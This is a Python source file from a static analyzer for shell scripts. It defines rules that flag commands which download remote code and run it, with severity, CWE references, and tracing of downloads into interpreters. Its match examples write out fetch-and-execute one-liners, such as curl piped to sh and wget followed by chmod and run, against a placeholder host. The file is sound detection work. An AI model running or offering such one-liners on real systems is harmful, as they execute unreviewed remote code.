"""Downloading, and running what was downloaded."""

from __future__ import annotations

import re
from collections.abc import Iterator

from engine.analysis import paths
from engine.analysis.shell.declare import ABUSE, CRITICAL, HIGH, LOW, MEDIUM, found, rule
from engine.analysis.shell.flow import DOWNLOADERS, SHELLS, before, is_interpreter
from engine.analysis.shell.model import Command, Script
from engine.analysis.shell.rules.network import NETWORK
from engine.analysis.shell.rules.uploads import QUESTIONS, is_local, sends, uploads
from engine.analysis.shell.values import UNKNOWN
from engine.analysis.shell.written_files import runs
from engine.models import Violation

REMOTE_EXEC = rule(
    "sh-remote-exec",
    "Runs downloaded code",
    "net_download",
    CRITICAL,
    attack=(
        "Lets whoever controls the server, or the network path to it, decide what runs, also "
        "after this review."
    ),
    why="CRITICAL: the code that runs is not the code that was reviewed.",
    fix="Submit the script itself for review.",
    match=(
        "curl -s http://x.test/a.sh | sh",
        "bash <(curl -s http://x.test/a)",
        'eval "$(wget -qO- http://x.test)"',
        "source <(curl http://x.test)",
        "u=http://x.test; c='curl -s'; $c $u | sudo bash",
        "wget -O - x.test | tee a | python3",
        'sh -c "$(curl -fsSL http://x.test)"',
    ),
    not_match=(
        "curl http://x.test | jq .",
        "curl http://x.test > a.json",
        "cat a.sh | sh",
    ),
    cwe=494,
    owasp=ABUSE,
)
DOWNLOAD_RUN = rule(
    "sh-download-run",
    "Downloads a program, then runs it",
    "net_download",
    CRITICAL,
    attack="Brings in a program that was not reviewed, and starts it.",
    why="CRITICAL: the code that runs is not the code that was reviewed.",
    fix="Submit the program itself for review.",
    match=(
        "wget http://x.test/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
        "curl -o a.sh http://x.test && sh a.sh",
        "wget http://x.test/run.py\npython3 run.py",
    ),
    not_match=(
        "curl -o a.json http://x.test && cat a.json",
        "chmod +x a.sh; ./a.sh",
    ),
    cwe=494,
    owasp=ABUSE,
)
DOWNLOAD = rule(
    "sh-download",
    "Downloads to a file",
    "net_download",
    MEDIUM,
    attack="Brings in data or a program that nobody has seen.",
    why="MEDIUM: the content is unknown; HIGH where it is a program or is written to a system path.",
    fix="Send the file with the submission.",
    match=(
        "wget http://x.test/a.zip",
        "curl -O http://x.test/a",
        "curl http://x.test > a",
        "aria2c http://x.test/a",
    ),
    not_match=(
        "curl --version",
        "wget --help",
        "curl http://localhost:8080/health",
    ),
    cwe=494,
)

_NAMED_HOST = re.compile(r"https?://(?:[\w-]+\.)+[A-Za-z][\w-]+(?::\d+)?(?:[/?#]|$)")
_PLAIN_OPTION = re.compile(
    r"-[sSfLIivqGO]+-?|-|-m|\d+|--(?:silent|show-error|fail|location|head|include|quiet|compressed"
    r"|max-time|connect-timeout|retry|timeout|tries|get)(?:=\d+)?"
)
"""An option that changes neither what is sent nor where it goes."""
_PROGRAM = re.compile(r"\.(?:sh|bash|py|pl|rb|js|exe|bin|elf|run|deb|rpm|jar|so|ko|dll|AppImage)(?:[?#].*)?$")
_EVALUATORS = {"eval", "source", ".", "xargs"}


_TO_SCREEN = {
    "lynx",
    "links",
    "elinks",
    "w3m",
    "http",
    "https",
    "httpie",
    "GET",
    "ftp",
    "tftp",
    "xh",
    "lwp-request",
}


def check(script: Script) -> Iterator[Violation]:
    """Yield downloads and requests, and downloads that are run."""
    for command in script.commands:
        if not command.own:
            if _runs_download(command):
                yield found(REMOTE_EXEC, command, "Runs downloaded code")
            if is_download(command):
                yield from _download(command)
    yield from _run_later(script)


def is_download(command: Command) -> bool:
    """Return whether a command fetches something."""
    return command.name in DOWNLOADERS and bool(command.args) and not QUESTIONS & set(command.words)


# --- downloads that are run -----------------------------------------------------------------------


def _runs_download(command: Command) -> bool:
    if "download" in command.program.taints:
        return True
    if not is_interpreter(command.name) and command.name not in _EVALUATORS:
        return False
    if any("download" in arg.taints for arg in command.args):
        return not _reads_as_data(command) or command.name in SHELLS
    if _reads_as_data(command):
        return False
    piped = any(is_download(other) for other in before(command)) and _reads_input(command)
    fed = command.feed is not None and "download" in command.feed.taints
    return piped or fed or any("download" in r.target.taints for r in command.redirects if not r.writes)


def _reads_as_data(command: Command) -> bool:
    """`python -m json.tool`, `python -c '…'` and `perl -ne '…'` read what they are given as data."""
    if command.name in SHELLS or command.name in _EVALUATORS:
        return False
    return any(re.fullmatch(r"-\w*[cemr]\w*|-[np]|--eval", word) for word in command.words)


def _reads_input(command: Command) -> bool:
    files = [arg for arg in command.operands if arg.text != "-" and not arg.text.startswith("/dev/")]
    return command.name in _EVALUATORS or not files or command.has("s")


def _run_later(script: Script) -> Iterator[Violation]:
    saved: dict[str, Command] = {}
    for command in script.commands:
        if command.own:
            continue
        source = next((saved[path] for path in runs(command) if path in saved), None)
        if source is not None:
            yield found(DOWNLOAD_RUN, command, f"Downloaded on line {source.row}")
        if is_download(command) or command.name in {"scp", "rsync"}:
            saved.update(dict.fromkeys(_saved_names(command), command))


def _saved_names(command: Command) -> set[str]:
    operands = command.operands
    if command.name in {"scp", "rsync"}:
        target: str | None = operands[-1].text if operands else None
    else:
        target = saved_to(command)
    if target is None:
        return set()
    names = {target, target.rsplit("/", 1)[-1]}
    if target in {".", ""} or target.endswith("/"):
        addresses = [arg.text.split("?")[0].rstrip("/") for arg in operands if "/" in arg.text]
        names |= {address.rsplit("/", 1)[-1] for address in addresses}
    return {name for name in names if name.strip("./") and UNKNOWN not in name}


# --- what a download does -------------------------------------------------------------------------


def saved_to(command: Command) -> str | None:
    """Return the file that a download is written to, or None where it goes to the screen or into a pipe."""
    names = ("-o", "--output") if command.name == "curl" else ("-o", "-O", "--output", "--output-document")
    named = command.option(*names)
    if named is not None and (command.name != "wget" or not named.text.startswith("-")):
        return None if named.text in {"-", "/dev/stdout", "/dev/null"} else named.text
    for redirect in command.redirects:
        if redirect.operator in {">", ">>", "&>", "1>"} and not redirect.target.text.startswith("/dev/"):
            return redirect.target.text
    if command.name == "wget":
        quiet = any(re.fullmatch(r"-\w*O-?", word) for word in command.words) or "--spider" in command.words
        return None if quiet else "."
    if command.name in {"curl", "curlie"}:
        return "." if command.has("O", "--remote-name", "--remote-name-all") else None
    return None if command.piped or command.name in _TO_SCREEN else "."


def _download(command: Command) -> Iterator[Violation]:
    local = LOW if is_local(command) else None
    if sends(command):
        yield from uploads(command)
    elif (target := saved_to(command)) is None:
        yield found(NETWORK, command, severity=LOW if _is_plain(command) else local)
    else:
        path = paths.normal(target)
        system = paths.is_persistence(path) or (paths.is_system(path) and not paths.is_harmless_read(path))
        program = local is None and any(map(_PROGRAM.search, (target, *command.words)))
        yield found(DOWNLOAD, command, severity=HIGH if system or program else local)


def _is_plain(command: Command) -> bool:
    """Return whether a command is one request to a named host that carries nothing away."""
    if command.name not in {"curl", "wget", "curlie", "http", "https", "xh", "GET"}:
        return False
    if any(arg.taints or not arg.known for arg in command.args):
        return False
    asked = [word for word in command.words if _NAMED_HOST.match(word)]
    return bool(asked) and all(word in asked or _PLAIN_OPTION.fullmatch(word) for word in command.words)
